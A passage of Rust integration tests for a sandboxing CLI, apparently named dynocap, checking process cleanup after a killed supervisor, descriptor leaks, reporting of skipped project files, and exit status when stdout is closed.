        wait_until(60, || {
            helpers = leftovers(supervisor, project.path(), &id)
                .into_iter()
                .filter(|p| p.pid != supervisor)
                .collect();
            proc_of(supervisor).is_some_and(|p| p.state == 'T')
                && helpers.iter().any(|p| p.cmdline.contains("pack-objects"))
        }),
        "the supervisor did not stop with git packing: {helpers:#?}"
    );
    let bundle = helpers
        .iter()
        .find(|p| p.cmdline.contains("bundle create"))
        .expect("git bundle create runs");
    let pack = helpers
        .iter()
        .find(|p| p.cmdline.contains("pack-objects"))
        .expect("git pack-objects runs");

    // Descriptors: the supervisor's ready pipe is close-on-exec like everything else it holds,
    // and git holds nothing of the supervisor's beyond its own stdio.
    let supervisor_fds = fds(supervisor);
    let ready = supervisor_fds
        .iter()
        .find(|(fd, _)| *fd == 3)
        .map(|(_, target)| target.clone())
        .expect("the ready pipe at fd 3");
    assert!(ready.starts_with("pipe:"), "fd 3 is {ready}");
    let cli_fds = fds(i32::try_from(cli.id()).unwrap());
    assert!(
        cli_fds.iter().any(|(_, target)| *target == ready),
        "fd 3 is not the CLI's ready pipe: {cli_fds:?}"
    );
    for (fd, target) in &supervisor_fds {
        assert!(
            *fd <= 2 || is_cloexec(supervisor, *fd),
            "supervisor fd {fd} ({target}) would leak into its children"
        );
    }
    let home_text = home.path().to_str().unwrap();
    for helper in [bundle, pack] {
        for (fd, target) in fds(helper.pid) {
            let foreign = target == ready
                || target.starts_with("socket:")
                || target.ends_with("catalog.db")
                || target.starts_with(&format!("{home_text}/logs"))
                || target.starts_with(&format!("{home_text}/run"));
            assert!(
                !foreign,
                "{} holds fd {fd} -> {target} of the supervisor",
                helper.cmdline
            );
        }
    }

    kill_supervisor_and_check(&home, cli, supervisor, project.path(), &id);
}

/// A directory holding `git`: the host's git, which for `bundle create` first starts a helper
/// of its own that runs for ten minutes unless killed (as git's `pack-objects` does for as
/// long as it packs), its command line holding `marker`.
fn git_with_a_long_helper(dir: &std::path::Path, marker: &str) -> std::path::PathBuf {
    let real = String::from_utf8(
        std::process::Command::new("sh")
            .args(["-c", "command -v git"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let script = format!(
        "#!/bin/sh\ncase \" $* \" in *\" bundle create \"*) sleep {marker} </dev/null >/dev/null 2>&1 & ;; esac\nexec {} \"$@\"\n",
        real.trim()
    );
    let git = bin.join("git");
    std::fs::write(&git, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&git, std::fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

#[test]
fn a_supervisor_killed_with_no_command_after_it_takes_git_along_whatever_the_catalog() {
    if !require_root(
        "a_supervisor_killed_with_no_command_after_it_takes_git_along_whatever_the_catalog",
    ) {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    slow_bundle_project(project.path());
    let _cleanup = KillLeftovers(project.path());
    let tools = tempfile::tempdir().unwrap();
    let marker = "600.31415";
    let bin = git_with_a_long_helper(tools.path(), marker);
    let helpers = || -> Vec<Proc> {
        live_processes()
            .filter(|p| p.cmdline.contains(marker))
            .collect()
    };
    let mut cli = home
        .command()
        .args(["--json", "task", "start", project.path().to_str().unwrap()])
        .env("DYNOCAP_FAILPOINTS", "import.bundle-packing=stop")
        .env(
            "PATH",
            format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()),
        )
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let (supervisor, _) = supervisor_of(&home);
    assert!(
        wait_until(60, || proc_of(supervisor).is_some_and(|p| p.state == 'T')),
        "the supervisor did not stop at the bundle"
    );
    assert!(
        wait_until(60, || !helpers().is_empty()),
        "git's helper never started"
    );
    // Nobody comes after the supervisor: its starter dies without a chance to clean up, the
    // catalog every sweep would read is damaged, and no command runs from here on.
    cli.kill().unwrap();
    cli.wait().unwrap();
    for sidecar in ["catalog.db-wal", "catalog.db-shm"] {
        let _ = std::fs::remove_file(home.path().join(sidecar));
    }
    std::fs::OpenOptions::new()
        .write(true)
        .open(home.path().join("catalog.db"))
        .unwrap()
        .set_len(2048)
        .unwrap();
    // SAFETY: plain kill(2) of the supervisor this test started.
    assert_eq!(unsafe { libc::kill(supervisor, libc::SIGKILL) }, 0);
    let left = |what: &[Proc]| what.is_empty();
    let mut found = helpers();
    wait_until(60, || {
        found = helpers();
        left(&found)
    });
    for p in &found {
        // SAFETY: plain kill(2) of the test's own helper, so a failure leaves nothing.
        unsafe { libc::kill(p.pid, libc::SIGKILL) };
    }
    assert!(
        found.is_empty(),
        "git's helper outlived the supervisor with no command after it: {found:#?}"
    );
}

#[test]
fn a_supervisor_killed_mid_import_by_a_real_signal_leaves_nothing_running() {
    if !require_root("a_supervisor_killed_mid_import_by_a_real_signal_leaves_nothing_running") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    slow_bundle_project(project.path());
    let _cleanup = KillLeftovers(project.path());
    let cli = home
        .command()
        .args(["--json", "task", "start", project.path().to_str().unwrap()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (supervisor, id) = supervisor_of(&home);
    // The bundle takes minutes: wait until git's own child is packing, then kill.
    assert!(
        wait_until(60, || leftovers(supervisor, project.path(), &id)
            .iter()
            .any(|p| p.cmdline.contains("pack-objects"))),
        "git pack-objects never ran"
    );
    kill_supervisor_and_check(&home, cli, supervisor, project.path(), &id);
}

fn mkfifo(path: &std::path::Path) {
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success(), "mkfifo {}", path.display());
}

/// `(path, kind)` of a Task object's skipped paths, and its total.
fn skipped(task: &serde_json::Value) -> (Vec<(String, String)>, u64) {
    let listed = task["source"]["skipped"]
        .as_array()
        .unwrap_or_else(|| panic!("no source.skipped: {task:#}"))
        .iter()
        .map(|p| {
            assert!(!p["reason"].as_str().unwrap().is_empty(), "{p}");
            (
                p["path"].as_str().unwrap().to_owned(),
                p["kind"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    (listed, task["source"]["skippedTotal"].as_u64().unwrap())
}

#[test]
fn unreadable_special_and_vanished_files_are_reported_in_the_task() {
    if !require_root("unreadable_special_and_vanished_files_are_reported_in_the_task") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    let dir = project.path();
    git(dir, &["init", "-q", "-b", "main"]);
    for name in ["keep.txt", "vanish.txt", "swap.txt", "fifo", "sock"] {
        write(&dir.join(name), "content\n");
    }
    git(dir, &["add", "-A"]);
    git(dir, &["commit", "-q", "-m", "files"]);
    // Tracked files that became a fifo and a socket: git lists them, they cannot come.
    std::fs::remove_file(dir.join("fifo")).unwrap();
    mkfifo(&dir.join("fifo"));
    std::fs::remove_file(dir.join("sock")).unwrap();
    drop(std::os::unix::net::UnixListener::bind(dir.join("sock")).unwrap());
    // An untracked file dynocap may not read. Mode 000 stops no one running as root, so the
    // kernel's write-only drop_caches is bound over it, in a mount namespace of the CLI's own
    // (its supervisor inherits it): opening it for reading fails even for root.
    let secret = dir.join("secret.key");
    write(&secret, "");
    chmod(&secret, 0o000);
    let cli = std::process::Command::new("unshare")
        .args(["--mount", "--propagation", "private", "--", "sh", "-c"])
        .arg(r#"mount --bind /proc/sys/vm/drop_caches "$0" && exec "$@""#)
        .arg(&secret)
        .arg(dynocap_bin())
        .args(["--json", "task", "start", "--name", "skips"])
        .arg(dir)
        .env("DYNOCAP_HOME", home.path())
        .env_remove("DYNOCAP_BACKEND")
        // Stop between listing and reading, to change the tree under the import.
        .env("DYNOCAP_FAILPOINTS", "import.tar-streaming=stop")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (supervisor, _) = supervisor_of(&home);
    assert!(
        wait_until(60, || proc_of(supervisor).is_some_and(|p| p.state == 'T')),
        "the supervisor did not stop before reading the project"
    );
    std::fs::remove_file(dir.join("vanish.txt")).unwrap();
    std::fs::remove_file(dir.join("swap.txt")).unwrap();
    mkfifo(&dir.join("swap.txt"));
    // SAFETY: plain kill(2) of the supervisor this test started.
    assert_eq!(unsafe { libc::kill(supervisor, libc::SIGCONT) }, 0);
    let out = wait_for_cli(cli, 120).expect("the start did not finish");
    assert!(
        out.status.success(),
        "start failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let task: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();

    let expected: Vec<(String, String)> = [
        ("fifo", "special-file"),
        ("secret.key", "unreadable"),
        ("sock", "special-file"),
        ("swap.txt", "changed"),
        ("vanish.txt", "vanished"),
    ]
    .iter()
    .map(|(p, k)| ((*p).to_owned(), (*k).to_owned()))
    .collect();
    assert_eq!(skipped(&task), (expected, 5), "{task:#}");
    assert!(task["source"]["skipped"][1]["reason"]
        .as_str()
        .unwrap()
        .contains("permission denied"));
    // ls shows the same, and the copy in the guest has only what came.
    let ls = home.json(&["ls"]);
    assert_eq!(ls["tasks"][0]["source"], task["source"]);
    assert_eq!(
        task_sh(&home, "skips", "ls -A | grep -v '^.git$'"),
        "keep.txt\n"
    );
}

#[test]
fn task_start_warns_about_skipped_paths_and_bounds_the_list() {
    if !require_root("task_start_warns_about_skipped_paths_and_bounds_the_list") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    write(&project.path().join("keep.txt"), "keep\n");
    for i in 0..60 {
        mkfifo(&project.path().join(format!("pipe{i:02}")));
    }
    let out = home.run(&[
        "task",
        "start",
        project.path().to_str().unwrap(),
        "--name",
        "pipes",
    ]);
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(
        stdout.contains("SKIPPED") && stdout.contains(" 60 "),
        "{stdout}"
    );
    let lines: Vec<&str> = stderr.lines().collect();
    let start = lines
        .iter()
        .position(|l| l.starts_with("warning: 60 paths of the project did not come into the task"))
        .unwrap_or_else(|| panic!("no warning: {stderr}"));
    let listed: Vec<&str> = lines[start + 1..]
        .iter()
        .take_while(|l| l.starts_with("  special-file"))
        .copied()
        .collect();
    assert_eq!(listed.len(), 50, "{stderr}");
    assert!(
        listed[0].contains("pipe00") && listed[0].contains("a fifo"),
        "{stderr}"
    );
    let log = home.log_path(&home.sandbox_id("pipes"));
    assert_eq!(
        lines.get(start + 51).copied(),
        Some(format!("  ... and 10 more, all listed in {}", log.display()).as_str()),
        "{stderr}"
    );
    let logged = std::fs::read_to_string(&log).unwrap();
    assert_eq!(logged.matches("import note: pipe").count(), 60, "{logged}");
    let task = &home.json(&["ls"])["tasks"][0];
    let (listed, total) = skipped(task);
    assert_eq!((listed.len(), total), (50, 60));
}

/// Runs `dynocap ARGS` with its stdout a pipe whose reader is already gone (`| head -0`);
/// returns the exit status and stderr. Closing the read end before the spawn leaves no race:
/// the command's first write to stdout finds no reader.
fn run_with_closed_stdout(home: &TestHome, args: &[&str]) -> (std::process::ExitStatus, String) {
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    let out = home
        .command()
        .args(args)
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .expect("spawn dynocap");
    (
        out.status,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn assert_ended_as_sigpipe(args: &[&str], status: std::process::ExitStatus, stderr: &str) {
    assert_eq!(
        status.code(),
        Some(141),
        "{args:?} with a closed stdout: {status:?}\nstderr: {stderr}"
    );
    assert!(
        !stderr.contains("panicked") && !stderr.contains("Broken pipe"),
        "{args:?} with a closed stdout: {stderr}"
    );
}

/// A command whose stdout's reader went away (`dynocap ls | head -0`) ends as a shell's
/// SIGPIPE ends a writer, 141 and no panic, for every command that prints, served by the
/// command server or not, tables and JSON alike; and it ends so only after its work is done:
/// the task started, finished (its patch verified) and applied (its branch made) all the same.
#[test]
fn a_closed_stdout_ends_each_command_as_sigpipe_after_its_work() {
    if !require_root("a_closed_stdout_ends_each_command_as_sigpipe_after_its_work") {
        return;
    }
    let home = TestHome::new();
    let repo = tempfile::tempdir().unwrap();
    let repo = repo.path();
    git(repo, &["init", "-q", "-b", "main"]);
    write(&repo.join("a.txt"), "a\n");
    git(repo, &["add", "-A"]);
    git(repo, &["commit", "-q", "-m", "base"]);
    let project = repo.to_str().expect("utf-8 temp path");

    for json in [false, true] {
        let name = if json { "piped-json" } else { "piped" };
        let with = |args: &[&str]| -> Vec<String> {
            let json_flag = json.then_some("--json");
            json_flag
                .into_iter()
                .chain(args.iter().copied())
                .map(str::to_owned)
                .collect()
        };
        let closed = |args: &[&str]| {
            let args = with(args);
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let (status, stderr) = run_with_closed_stdout(&home, &args);
            assert_ended_as_sigpipe(&args, status, &stderr);
        };

        closed(&["task", "start", project, "--name", name]);
        let ls = home.json(&["ls"]);
        assert!(
            ls["tasks"]
                .as_array()
                .unwrap()
                .iter()
                .any(|t| t["name"] == name && t["state"] == "running"),
            "the task a closed stdout's start printed is running: {ls:#}"
        );
        home.task_sh(name, "printf 'b\\n' > a.txt");
        for args in [
            &["ls"][..],
            &["ps"],
            &["image", "ls"],
            &["doctor"],
            &["pool"],
            &["task", "diff", name],
            &["completions", "bash"],
            &["task", "--help"],
        ] {
            closed(args);
        }
        // The served commands too (the command server writes to the client's own stdout).
        let raw = format!("{name}-raw");
        closed(&["run", &raw]);
        let listed = |raw: &str| {
            home.json(&["ps"])["sandboxes"]
                .as_array()
                .expect("sandboxes")
                .iter()
                .any(|s| s["name"] == raw)
        };
        assert!(listed(&raw), "the run a closed stdout ended started {raw}");
        closed(&["destroy", &raw]);
        assert!(
            !listed(&raw),
            "the destroy a closed stdout ended ended {raw}"
        );
        closed(&["task", "finish", name]);
        let diff = home.json(&["task", "diff", name]);
        assert!(
            diff["patch"].as_str().unwrap().contains("+b"),
            "the finish a closed stdout ended kept the work: {diff:#}"
        );
        let ls = home.json(&["ls"]);
        assert!(
            ls["tasks"]
                .as_array()
                .unwrap()
                .iter()
                .any(|t| t["name"] == name && t["state"] == "finished"),
            "the finish a closed stdout ended finished the task: {ls:#}"
        );
        let branch = format!("{name}-branch");
        closed(&["task", "apply", name, &format!("--branch={branch}")]);
        assert_eq!(
            git(repo, &["show", &format!("{branch}:a.txt")]).trim(),
            "b",
            "the apply a closed stdout ended made its branch"
        );
        closed(&["rm", name]);
        assert!(
            home.json(&["ls"])["tasks"]
                .as_array()
                .unwrap()
                .iter()
                .all(|t| t["name"] != name),
            "the rm a closed stdout ended removed the task"
        );
    }
}
